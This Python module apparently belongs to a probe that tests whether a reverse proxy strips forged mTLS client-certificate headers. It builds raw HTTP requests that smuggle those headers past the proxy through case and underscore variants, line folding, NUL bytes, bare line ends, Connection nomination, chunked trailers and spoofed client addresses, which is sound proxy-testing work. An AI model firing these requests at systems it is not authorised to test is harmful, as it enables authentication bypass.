"""Ways to bring forged headers past a proxy: one row a trick, each a request in raw HTTP/1.1 bytes.

A row holds templates of header lines. Each template is filled in once for each forged header, from what `spellings`
makes of its name and value; `{names}` and `{others}` are the names of all forged headers, and of all but the first.
"""

from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from enum import Enum, StrEnum

Headers = Sequence[tuple[str, str]]

LOCALHOST = "127.0.0.1"

_FOLDED_FROM = 16  # characters: a shorter value would be another one after the fold
_PUNCTUATION = "~!'*|"


class Kind(StrEnum):
    """What a trick plays with, and so what helps against it."""

    COPY = "copy"
    SPELLING = "spelling"
    BLANK = "blank"
    FOLD = "fold"
    LINE_END = "line end"
    NOMINATION = "nomination"
    TRAILER = "trailer"
    VARIANT = "variant"
    ADDRESS = "address"


class Part(Enum):
    """Which of the forged headers a trick writes; the first is the certificate's."""

    ALL = (None, None)
    FIRST = (None, 1)
    OTHERS = (1, None)

    def of(self, forged: Headers) -> Headers:
        return forged[slice(*self.value)]


@dataclass(frozen=True, slots=True, kw_only=True)
class Trick:
    """One way to write forged headers into a request. Judges nothing: it makes the bytes.

    `lines` and `trailers` are for each forged header that `only` selects, `before` comes once; `glue` ends a line of
    these. `early` puts them right after the request line. `late` sends the trailers in a part of their own.
    """

    kind: Kind
    lines: tuple[str, ...] = ("{name}: {value}",)
    only: Part = Part.ALL
    before: tuple[str, ...] = ()
    glue: str = "\r\n"
    early: bool = False
    connection: str = "close"
    trailers: tuple[str, ...] = ()
    late: bool = False
    request_line: str = "{method} {path} HTTP/1.1"
    newline: str = "\r\n"

    @property
    def forges(self) -> bool:
        """Whether forged values are sent at all: a nomination alone takes headers away, and adds none."""
        return bool(self.lines or self.trailers)

    @property
    def upgrades(self) -> bool:
        """Whether it asks for another protocol: then no answer but the first message in that one counts."""
        return self.connection == "Upgrade"

    def request(
        self, forged: Headers, *, path: str, host: str, extra: Headers = (), address: str = LOCALHOST
    ) -> tuple[bytes, ...]:
        """Return the request in the parts that are sent a moment apart; the connection is of no use after it.

        *forged* has the certificate's header first. *extra* headers are honest ones, written before the forged.
        *address* is whom the client claims to be, in the tricks that claim it.
        """
        once = {
            "method": "POST" if self.trailers else "GET",
            "path": path,
            "host": host,
            "address": address,
            "names": ", ".join(name for name, _value in forged),
            "others": ", ".join(name for name, _value in Part.OTHERS.of(forged)),
        }
        chosen = [spellings(name, value) for name, value in self.only.of(forged)]
        written = self.glue.join(
            [*(text.format_map(once) for text in self.before), *(_filled(self.lines, chosen))],
        )
        honest = [f"{name}: {value}" for name, value in (("Host", host), *extra)]
        # A line that begins with a blank continues the one before: that is never an honest header that matters.
        honest += [f"Connection: {self.connection.format_map(once).rstrip(', ')}", "X-Probe: mtls-auth"]
        if self.trailers:
            honest.insert(0, "Transfer-Encoding: chunked")
        blocks = [written, *honest] if self.early else [*honest, written]
        head = "\r\n".join([self.request_line.format_map(once), *filter(None, blocks), "", ""])
        parts = [head.replace("\r\n", self.newline)]
        if self.trailers:
            last = "0\r\n" + "".join(f"{line}\r\n" for line in _filled(self.trailers, chosen)) + "\r\n"
            parts = [*parts, "5\r\nhello\r\n", last] if self.late else [f"{parts[0]}5\r\nhello\r\n{last}"]
        return tuple(part.encode("latin-1") for part in parts)


def _filled(templates: Iterable[str], chosen: Iterable[Mapping[str, str]]) -> list[str]:
    return [template.format_map(spellings) for spellings in chosen for template in templates]


def spellings(name: str, value: str) -> dict[str, str]:
    middle = len(value) // 2 if len(value) >= _FOLDED_FROM else len(value)
    underscored = name.replace("-", "_")
    words = name.split("-")
    return {
        "name": name,
        "lower": name.lower(),
        "upper": name.upper(),
        "mixed": "".join(char.upper() if index % 2 else char.lower() for index, char in enumerate(name)),
        "underscored": underscored,
        "one_underscore": "_".join(name.rsplit("-", 1)),
        "dotted": name.replace("-", "."),
        "nbsp": name.replace("-", "\xa0"),
        "punctuated": words[0]
        + "".join(_PUNCTUATION[index % len(_PUNCTUATION)] + word for index, word in enumerate(words[1:])),
        "variable": underscored.upper().removeprefix("X_"),
        "value": value,
        "head": value[:middle],
        "tail": value[middle:],
    }


_EXACT = "{name}: {value}"
_UNDERSCORED = "{underscored}: {value}"
_ANNOUNCED = ("Trailer: {names}", "TE: trailers")
_BOTH, _VERDICT = "close, {names}", "close, {others}"
_WEBSOCKET = ("Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: bXRscy1hdXRoLXByb2JlLQ==")
_ADDRESSES = ("X-Forwarded-For: {address}", "X-Real-IP: {address}", "Forwarded: for={address}", "Client-IP: {address}")
_PROXY_LINE = "PROXY TCP4 {address} {address} 50000 443\r\n{method} {path} HTTP/1.1"

TRICKS: Mapping[str, Trick] = {
    "exact": Trick(kind=Kind.COPY),
    "lower case names": Trick(kind=Kind.COPY, lines=("{lower}: {value}",)),
    "upper case names": Trick(kind=Kind.COPY, lines=("{upper}: {value}",)),
    "mixed case names": Trick(kind=Kind.COPY, lines=("{mixed}: {value}",)),
    "twice": Trick(kind=Kind.COPY, lines=(_EXACT, _EXACT)),
    "twice in two cases": Trick(kind=Kind.COPY, lines=(_EXACT, "{mixed}: {value}")),
    "empty and then full": Trick(kind=Kind.COPY, lines=("{name}:", _EXACT)),
    "full and then empty": Trick(kind=Kind.COPY, lines=(_EXACT, "{name}:")),
    "certificate alone": Trick(kind=Kind.COPY, only=Part.FIRST),
    "verdict alone": Trick(kind=Kind.COPY, only=Part.OTHERS),
    "underscores": Trick(kind=Kind.SPELLING, lines=(_UNDERSCORED,)),
    "one underscore": Trick(kind=Kind.SPELLING, lines=("{one_underscore}: {value}",)),
    "underscores beside hyphens": Trick(kind=Kind.SPELLING, lines=(_EXACT, _UNDERSCORED)),
    "underscores of the verdict": Trick(kind=Kind.SPELLING, lines=(_UNDERSCORED,), only=Part.OTHERS),
    "dots": Trick(kind=Kind.SPELLING, lines=("{dotted}: {value}",)),
    "other punctuation": Trick(kind=Kind.SPELLING, lines=("{punctuated}: {value}",)),
    "non-breaking spaces": Trick(kind=Kind.SPELLING, lines=("{nbsp}: {value}",)),
    "CGI variables": Trick(kind=Kind.SPELLING, lines=("{variable}: {value}",)),
    "CGI variables with prefix": Trick(kind=Kind.SPELLING, lines=("HTTP_{underscored}: {value}",)),
    "blank before the colon": Trick(kind=Kind.BLANK, lines=("{name} : {value}",)),
    "tab before the colon": Trick(kind=Kind.BLANK, lines=("{name}\t: {value}",)),
    "vertical tab before the colon": Trick(kind=Kind.BLANK, lines=("{name}\v: {value}",)),
    "NUL in the name": Trick(kind=Kind.BLANK, lines=("{name}\0: {value}",)),
    "NUL after the value": Trick(kind=Kind.BLANK, lines=("{name}: {value}\0",)),
    "folded": Trick(kind=Kind.FOLD, lines=("{name}: {head}\r\n {tail}",)),
    "folded with a tab": Trick(kind=Kind.FOLD, lines=("{name}: {head}\r\n\t{tail}",)),
    "folded to the next line": Trick(kind=Kind.FOLD, lines=("{name}:\r\n\t{value}",)),
    "folded before the colon": Trick(kind=Kind.FOLD, lines=("{name}\r\n : {value}",)),
    "inside a fold": Trick(kind=Kind.FOLD, lines=(" {name}: {value}",)),
    "inside a fold with a tab": Trick(kind=Kind.FOLD, lines=("\t{name}: {value}",)),
    "blank after the request line": Trick(kind=Kind.FOLD, lines=(" {name}: {value}",), early=True),
    "after a bare line feed": Trick(kind=Kind.LINE_END, before=("X-Other: a",), glue="\n"),
    "after a bare carriage return": Trick(kind=Kind.LINE_END, before=("X-Other: a",), glue="\r"),
    "line feeds alone": Trick(kind=Kind.LINE_END, newline="\n"),
    "nominated by Connection": Trick(kind=Kind.NOMINATION, connection=_BOTH),
    "nomination alone": Trick(kind=Kind.NOMINATION, connection=_BOTH, lines=()),
    "nomination and underscores": Trick(kind=Kind.NOMINATION, connection=_BOTH, lines=(_UNDERSCORED,)),
    "verdict nominated": Trick(kind=Kind.NOMINATION, connection=_VERDICT, lines=()),
    "verdict nominated, with underscores": Trick(
        kind=Kind.NOMINATION, connection=_VERDICT, lines=(_UNDERSCORED,), only=Part.OTHERS
    ),
    "trailers": Trick(kind=Kind.TRAILER, before=_ANNOUNCED, lines=(), trailers=(_EXACT,)),
    "trailers unannounced": Trick(kind=Kind.TRAILER, lines=(), trailers=(_EXACT,)),
    "late trailers": Trick(kind=Kind.TRAILER, before=_ANNOUNCED, lines=(), trailers=(_EXACT,), late=True),
    "trailers with underscores": Trick(kind=Kind.TRAILER, lines=(), trailers=(_UNDERSCORED,)),
    "WebSocket upgrade": Trick(kind=Kind.VARIANT, connection="Upgrade", before=_WEBSOCKET),
    "HTTP/1.0": Trick(kind=Kind.VARIANT, request_line="{method} {path} HTTP/1.0"),
    "absolute target": Trick(kind=Kind.VARIANT, request_line="{method} http://{host}{path} HTTP/1.1"),
    "a forged address": Trick(kind=Kind.ADDRESS, before=_ADDRESSES),
    "a PROXY line": Trick(kind=Kind.ADDRESS, request_line=_PROXY_LINE),
    "a forged secret": Trick(kind=Kind.ADDRESS, before=("X-Proxy-Secret: forged-by-mtls-auth-probe",)),
}
